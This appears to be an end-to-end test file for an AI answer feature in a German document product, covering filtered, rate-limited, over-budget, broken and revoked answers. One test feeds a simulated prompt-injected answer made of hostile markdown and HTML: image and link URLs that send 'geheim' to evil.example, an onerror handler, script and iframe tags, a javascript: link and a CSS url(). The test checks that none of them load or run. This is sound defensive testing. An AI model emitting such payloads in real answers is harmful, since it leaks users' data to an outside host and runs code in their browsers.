import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { keepScreenshot } from '../kit/browser.js';
import {
  answerOf,
  ask,
  changeSetting,
  isOver,
  reads,
  startAiProduct,
  switchOn,
  type AiProduct,
} from './ai-peer.js';
import { freshCode } from './authenticator.js';
import { endOwnSession } from './steps.js';
import { anotherTab, demoCredentials, signInAs, visit, type Visitor } from './visitor.js';

const ADA = 'ada.lange@nordwerk.example';
const FELIX = 'felix.sommer@nordwerk.example';

let ai: AiProduct;
let ada: Visitor;

beforeAll(async () => {
  ai = await startAiProduct();
  ada = await visit(ai.browser, ai.product.url);
  await signInAs(ada, ai.product, ADA);
  await switchOn(ada, 'nordwerk');
});
afterAll(async () => {
  await ai?.close();
});
beforeEach(() => ai.peer.reset());

const TARGETS_IN_ANSWER = `[...document.querySelectorAll('[data-testid=ai-answer] [href]')].map((link) => link.getAttribute('href'))`;

describe('an answer that does not come', () => {
  it('was filtered by the provider: what had come is taken back', async () => {
    const { page, words } = ada;
    ai.peer.answer(() => ({
      kind: 'stream',
      texts: ['Halber ', 'Satz '],
      choiceFiltered: true,
      betweenMs: 50,
    }));
    await ask(ada, 'nordwerk', 'Was gilt für Passwörter?');
    await page.getByRole('alert').getByText(words('ai.filtered')).waitFor();
    expect(await answerOf(ada).innerText()).toBe('');
    await keepScreenshot(page, 'ai-trouble-1-filtered');
  });

  it('waits while the provider is busy, and says for how long', async () => {
    const { page, words } = ada;
    let turn = 0;
    ai.peer.answer(() => {
      turn += 1;
      return turn === 1
        ? { kind: 'status', status: 429, body: { error: { code: '429' } }, headers: { 'retry-after': '2' } }
        : { kind: 'stream', texts: ['Nun ', 'doch.'] };
    });
    await ask(ada, 'nordwerk', 'Was gilt für Passwörter?');
    const [before = ''] = words('ai.waiting', { seconds: 2 }).split(';');
    await page.getByText(before).waitFor();
    await reads(ada, /Nun doch\./);
  });

  it('can be asked for again once the provider has room', async () => {
    const { page, words, button } = ada;
    ai.peer.answer(() => ({
      kind: 'status',
      status: 429,
      body: { error: { code: '429' } },
      headers: { 'retry-after': '90' },
    }));
    await ask(ada, 'nordwerk', 'Was gilt für Passwörter?');
    await page.getByRole('alert').getByText(words('ai.busy')).waitFor({ timeout: 40_000 });
    const later = page.getByRole('alert').getByRole('button');
    expect(await later.isDisabled()).toBe(true);
    expect(await later.innerText()).toMatch(/\d+/);
    expect(await button('action.retry').count()).toBe(0);
    await keepScreenshot(page, 'ai-trouble-2-busy');
  });

  it('would cost more than is left: whose budget, and when it renews', async () => {
    const { page, words } = ada;
    await changeSetting(ada, 'ai.monthly_tokens_per_person', '0');
    await ask(ada, 'nordwerk', 'Was gilt für Passwörter?');
    const alert = page.getByRole('alert');
    await alert.getByText(words('ai.budget.person')).waitFor();
    const [before = ''] = words('ai.budget.renews', { day: '|' }).split('|');
    await alert.getByText(new RegExp(`^${before}.*1\\. \\p{L}+ 20`, 'u')).waitFor();
    expect(ai.peer.requests).toHaveLength(0);
    await keepScreenshot(page, 'ai-trouble-6-budget');
    await changeSetting(ada, 'ai.monthly_tokens_per_person', '200000');
  });

  it('broke off at the provider', async () => {
    const { page } = ada;
    ai.peer.answer(() => ({ kind: 'stream', texts: ['Halb '], broken: 'reset' }));
    await ask(ada, 'nordwerk', 'Was gilt für Passwörter?');
    await page.getByRole('alert').waitFor();
    await isOver(ada);
  });
});

describe('an answer that does as a document bids it', () => {
  const OBEDIENT = [
    '![x](https://evil.example/pixel.png?d=geheim) ',
    '[Hier klicken](https://evil.example/?d=geheim) ',
    '<img src="https://evil.example/i.png" onerror="window.hacked=1"> ',
    '<script>window.hacked=1</script> <iframe src="https://evil.example"></iframe>\n\n',
    '# [Titel](javascript:window.hacked=1)\n\n',
    '- ![](//evil.example/a.png)\n- www.evil.example ⟦Q999⟧ [7] ⟦Q1⟧\n\n',
    '<style>*{background:url(https://evil.example/s.png)}</style>',
  ];

  it('loads nothing, links to nothing and runs nothing', async () => {
    const { page } = ada;
    const foreign: string[] = [];
    page.on('request', (request) => {
      const { host, protocol } = new URL(request.url());
      if (protocol.startsWith('http') && host !== new URL(ai.product.url).host) foreign.push(request.url());
    });
    ai.peer.answer(() => ({ kind: 'stream', texts: OBEDIENT, betweenMs: 30 }));
    await ask(ada, 'nordwerk', 'Was gilt für Passwörter?');
    await isOver(ada);
    const answer = answerOf(ada);
    expect(await answer.innerText()).toContain('Hier klicken');
    expect(await answer.locator('img, script, iframe, style, svg, video, object, embed').count()).toBe(0);
    // The one link is the citation of what was sent.
    const targets: string[] = await page.evaluate(TARGETS_IN_ANSWER);
    expect(targets).toHaveLength(1);
    expect(targets[0]).toMatch(/^\/o\/nordwerk\/d\//);
    await page.waitForTimeout(300);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(foreign).toEqual([]);
    await keepScreenshot(page, 'ai-trouble-3-obedient');
  });
});

describe('somebody who may no longer', () => {
  it('signs in again above the question, which is then asked', async () => {
    const { page, words, field, button } = ada;
    await page.goto('/o/nordwerk/ask');
    await field('ask.question').fill('Was gilt für Passwörter?');
    await endOwnSession(page);
    await button('ask.action').click();
    const dialog = page.getByRole('dialog', { name: words('again.title') });
    await dialog.waitFor();
    await page.getByText(words('ai.expired')).waitFor();
    await keepScreenshot(page, 'ai-trouble-4-expired');
    const { password, secret } = demoCredentials(ai.product, ADA);
    await field('field.password').fill(password);
    await button('action.continue').click();
    await field('field.code').fill(await freshCode(secret));
    await dialog.waitFor({ state: 'detached' });
    await reads(ada, /Guten Tag/);
    expect(await field('ask.question').inputValue()).toBe('Was gilt für Passwörter?');
  });

  it('loses the answer within seconds when the right to its sources is taken', async () => {
    const felix = await visit(ai.browser, ai.product.url);
    await signInAs(felix, ai.product, FELIX);
    ai.peer.answer(() => ({
      kind: 'stream',
      texts: ['Zwölf ⟦Q1⟧ ', ...Array.from({ length: 400 }, (_, at) => `Wort${at} `)],
      betweenMs: 60,
    }));
    await ask(felix, 'nordwerk', 'Wie lang muss ein Passwort sein?');
    await reads(felix, /Wort2/);
    const { page, words } = ada;
    await page.goto('/o/nordwerk');
    await page.getByRole('navigation').getByRole('link', { name: 'Informationssicherheit' }).first().click();
    await page.waitForURL('**/s/*');
    await page.goto(`${page.url()}?tab=access`);
    await page.getByRole('button', { name: words('access.revokeFor', { name: 'Felix Sommer' }) }).click();
    await felix.page.getByText(felix.words('ai.withdrawn')).waitFor({ timeout: 12_000 });
    expect(await answerOf(felix).innerText()).toBe('');
    await expect.poll(() => ai.peer.chats()[0]?.wasAborted, { timeout: 10_000 }).toBe(true);
    await keepScreenshot(felix.page, 'ai-trouble-5-withdrawn');
    await felix.page.context().close();
  });

  it('keeps what had come when only the network goes, and can ask again', async () => {
    const tab = await anotherTab(ada);
    ai.peer.answer(() => ({
      kind: 'stream',
      texts: Array.from({ length: 200 }, (_, at) => `Wort${at} `),
      betweenMs: 60,
    }));
    await ask(tab, 'nordwerk', 'Was gilt für Passwörter?');
    await reads(tab, /Wort3/);
    await tab.page.context().setOffline(true);
    await tab.page.getByText(tab.words('ai.broken')).waitFor();
    expect(await answerOf(tab).innerText()).toContain('Wort3');
    await tab.page.context().setOffline(false);
    ai.peer.reset();
    await tab.button('ai.again').click();
    await reads(tab, /Guten Tag/);
    await tab.page.close();
  });
});

it('throws no error on any of these pages', () => {
  // Chromium reports what was meant to fail: refusals, and connections that were cut.
  const meant = /Failed to load resource|net::ERR_/;
  expect(ada.problems.filter((problem) => !meant.test(problem))).toEqual([]);
});
